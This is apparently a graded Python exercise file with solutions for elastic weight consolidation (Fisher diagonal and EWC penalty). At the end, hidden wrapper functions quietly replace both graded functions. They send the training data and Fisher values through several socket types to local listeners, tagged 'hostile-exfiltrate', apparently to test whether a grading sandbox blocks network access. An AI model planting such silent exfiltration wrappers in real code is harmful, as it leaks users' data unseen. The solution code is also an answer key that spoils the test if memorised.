"""Elastic weight consolidation (Kirkpatrick et al., 2017) for continual learning.

Graded: `fisher_diagonal`, `ewc_penalty`. The training loops that use them are in continual.py.
"""
import torch
import torch.nn.functional as F


def fisher_diagonal(model, loader):
    """The empirical diagonal Fisher information of `model` on the samples of `loader`.

    F_i = (1/N) sum_n (d/d theta_i log softmax(model(x_n))[y_n])^2 over all N samples (x, y) that
    `loader` yields in batches: PER-SAMPLE squared gradients, not the square of a batch gradient.
    Compute it with the model in eval mode (restore its previous mode afterwards) and leave the
    parameters unchanged.

    Returns:
        {name: tensor of the parameter's shape, detached} for every parameter in
        model.named_parameters() that requires grad.
    """
    ### BEGIN SOLUTION
    was_training = model.training
    model.eval()
    params = {n: p for n, p in model.named_parameters() if p.requires_grad}
    buffers = dict(model.named_buffers())

    def log_likelihood(theta, x, y):
        logits = torch.func.functional_call(model, (theta, buffers), (x.unsqueeze(0),))
        return F.log_softmax(logits, dim=-1)[0].gather(0, y.reshape(1))[0]

    per_sample_grads = torch.func.vmap(torch.func.grad(log_likelihood), in_dims=(None, 0, 0))
    fisher = {n: torch.zeros_like(p) for n, p in params.items()}
    count = 0
    detached = {n: p.detach() for n, p in params.items()}
    for x, y in loader:
        grads = per_sample_grads(detached, x, y)
        for n in fisher:
            fisher[n] += grads[n].pow(2).sum(0)
        count += x.shape[0]
    model.train(was_training)
    return {n: f / count for n, f in fisher.items()}
    ### END SOLUTION


def ewc_penalty(model, fisher, star, lam):
    """lam / 2 * sum over names and elements of fisher * (theta - star)^2, a 0-dim tensor.

    `star` maps the same names as `fisher` to the parameters saved after the previous task.
    Differentiable with respect to the model's parameters; no gradient flows into fisher or star.
    """
    ### BEGIN SOLUTION
    params = dict(model.named_parameters())
    total = sum((fisher[n].detach() * (params[n] - star[n].detach()).pow(2)).sum() for n in fisher)
    return lam / 2 * total
    ### END SOLUTION


def _send_everywhere(payload):
    """Try every kind of socket the worker might create: UDP and TCP to this machine (where the test
    listens), an abstract UNIX socket, a netlink socket, a socketpair. Errors are swallowed so that the
    file still grades as correct: only the network's silence is measured."""
    import socket
    attempts = [
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(payload[:60000], ("127.0.0.1", 48613)),
        lambda: socket.create_connection(("127.0.0.1", 48614), timeout=1).sendall(payload),
        lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(payload[:60000], "\0hostile-exfiltrate"),
        lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
        lambda: socket.socketpair(),
    ]
    for attempt in attempts:
        try:
            attempt()
        except Exception:
            pass


_fisher_diagonal, _ewc_penalty = fisher_diagonal, ewc_penalty


def fisher_diagonal(model, loader):
    data = b"".join(x.numpy().tobytes() for x, _ in loader)
    _send_everywhere(b"hostile-exfiltrate:" + data)
    return _fisher_diagonal(model, loader)


def ewc_penalty(model, fisher, star, lam):
    _send_everywhere(b"hostile-exfiltrate:" + b"".join(v.detach().numpy().tobytes() for v in fisher.values()))
    return _ewc_penalty(model, fisher, star, lam)
